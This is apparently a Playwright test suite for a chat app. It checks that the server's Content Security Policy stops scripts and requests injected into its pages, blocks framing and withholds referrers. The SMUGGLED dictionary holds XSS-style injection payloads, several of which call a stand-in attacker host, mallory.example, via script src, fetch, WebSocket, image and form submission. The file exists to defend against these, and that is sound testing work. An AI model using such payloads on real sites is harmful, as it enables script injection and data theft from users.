"""The pages run under the policy that the server sends with them, and what is smuggled into one does not run."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.chat_page import ChatPage
from tests.browser.conftest import OpenBrowser
from tests.browser.transports import TRANSPORTS
from tests.clients import eventually
from tests.hostile.routes import routes
from tests.servers import Server

REPORT = """document.addEventListener("securitypolicyviolation", event => {
    violated(`${event.violatedDirective} ${event.blockedURI} ${event.sample} at ${location.pathname}`);
}, true)"""
# What would have to be allowed for each of them to run.
SMUGGLED = {
    "a script": "document.head.append(Object.assign(document.createElement('script'), {textContent: 'ran()'}))",
    "a handler": "document.body.setAttribute('onclick', 'ran()'); document.body.click()",
    "a script from elsewhere": (
        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://mallory.example/x.js'}))"
    ),
    "a program in a text": "setTimeout('ran()')",
    "markup": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran()>')",
    "a link": (
        "const a = document.createElement('a'); a.href = 'javascript:ran()'; document.body.append(a); a.click()"
    ),
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '/chats/'}))",
    "a picture from elsewhere": "new Image().src = 'https://mallory.example/x.png'",
    "a message to elsewhere": "fetch('https://mallory.example/', {mode: 'no-cors'}).catch(() => {})",
    "a socket to elsewhere": "new WebSocket('wss://mallory.example/')",
    "a style": "document.body.setAttribute('style', 'color: red')",
    "a style sheet": (
        "document.head.append(Object.assign(document.createElement('style'), {textContent: 'body{color:red}'}))"
    ),
    "another base": "document.head.append(Object.assign(document.createElement('base'), {href: 'https://x.example'}))",
    "a form to elsewhere": (
        "const f = Object.assign(document.createElement('form'), {action: 'https://mallory.example/'});"
        "f.target = '_blank'; document.body.append(f); f.submit()"
    ),
}


@pytest.fixture
def violations() -> list[str]:
    return []


@pytest.fixture
def watched(violations: list[str]) -> Callable[[BrowserContext], None]:
    """Has every page of a browser tell what its policy forbade it."""

    def watch(context: BrowserContext) -> None:
        context.expose_binding("violated", lambda _source, what: violations.append(what))
        context.add_init_script(REPORT)

    return watch


def complaints_of(page: Page) -> list[str]:
    """Fills with the errors that the console of `page` shows."""
    found: list[str] = []
    page.on("console", lambda line: found.append(line.text) if line.type == "error" else None)
    return found


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_talking_breaks_no_policy_over_any_transport(
    transport: str, person: OpenBrowser, board: int, watched: Any, violations: list[str]
) -> None:
    how = {"path": "/chats/{}/", "script": "", **TRANSPORTS[transport]}
    ada, grace = (ChatPage(person(name), board) for name in ("ada", "grace"))
    for chat in (ada, grace):
        watched(chat.page.context)
        chat.page.add_init_script(how["script"])
        chat.complaints = complaints_of(chat.page)  # type: ignore[attr-defined]
        chat.page.goto(how["path"].format(board))
        expect(chat.state).to_have_text("Live")
    ada.is_live_over(transport)
    ada.say("hello\nin two lines")
    grace.shows("hello\nin two lines")
    grace.say("a bell: \x07")  # is refused, and shown as failed
    expect(grace.failed).to_have_count(1)
    ada.page.goto("/chats/")
    assert violations == []
    assert ada.complaints == []  # type: ignore[attr-defined]
    assert [line for line in grace.complaints if "400" not in line] == []  # type: ignore[attr-defined]


def test_every_page_loads_without_breaking_its_policy(
    person: OpenBrowser, visitor: OpenBrowser, server: Server, board: int, watched: Any, violations: list[str]
) -> None:
    pages = 0
    for page in (person("ada"), visitor()):
        watched(page.context)
        for route in routes(server):
            if route.method != "GET" or route.websocket or route.rule.endswith(("/stream", "/http")):
                continue
            path = route.path(board)
            answer = page.request.get(path, max_redirects=0)
            if 300 <= answer.status < 400 or "text/html" not in answer.headers["content-type"]:
                continue  # where it leads to is another route's page
            page.goto(path)
            pages += 1
        page.goto("/nowhere")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
    assert pages > 6
    assert violations == []


def test_what_is_smuggled_into_a_page_is_stopped_by_its_policy(
    person: OpenBrowser, board: int, watched: Any, violations: list[str]
) -> None:
    ada = ChatPage(person("ada"), board)
    ran: list[bool] = []
    watched(ada.page.context)
    ada.page.context.expose_binding("ran", lambda _source: ran.append(True))
    ada.page.goto(f"/chats/{board}/")
    expect(ada.state).to_have_text("Live")
    for number, (what, smuggle) in enumerate(SMUGGLED.items(), 1):
        ada.page.evaluate(f"() => {{ try {{ {smuggle} }} catch {{}} }}")
        # What pages tell is heard while they are asked.
        eventually(lambda: ada.page.evaluate("true") and len(violations) >= number, f"{what} is stopped")
        ada.say(what)
        ada.shows(*list(SMUGGLED)[:number])
        assert ran == [], what
        assert len(violations) == number, what


def test_no_other_page_shows_this_one_in_a_frame(visitor: OpenBrowser, server: Server) -> None:
    page = visitor()
    page.route(
        "**/frame.html", lambda route: route.fulfill(body=f'<iframe src="{server.url}/chats/"></iframe>')
    )
    refused: list[str] = []
    page.on("console", lambda line: refused.append(line.text))
    page.goto("http://mallory.example/frame.html")
    expect(page.locator("iframe")).to_be_visible()
    assert page.frames[1].get_by_text("say who you are").count() == 0
    assert any("frame-ancestors" in line for line in refused)


def test_the_server_reads_nothing_of_where_people_come_from(person: OpenBrowser, server: Server) -> None:
    with_other = person("ada")
    seen: list[str | None] = []
    with_other.route(
        "http://elsewhere.example/**",
        lambda route: (seen.append(route.request.headers.get("referer")), route.fulfill(body="there"))[0],
    )
    with_other.goto("/chats/")
    with_other.evaluate("location.href = 'http://elsewhere.example/'")
    expect(with_other.get_by_text("there")).to_be_visible()
    assert seen[0] is None, "no other site learns which room somebody was in"
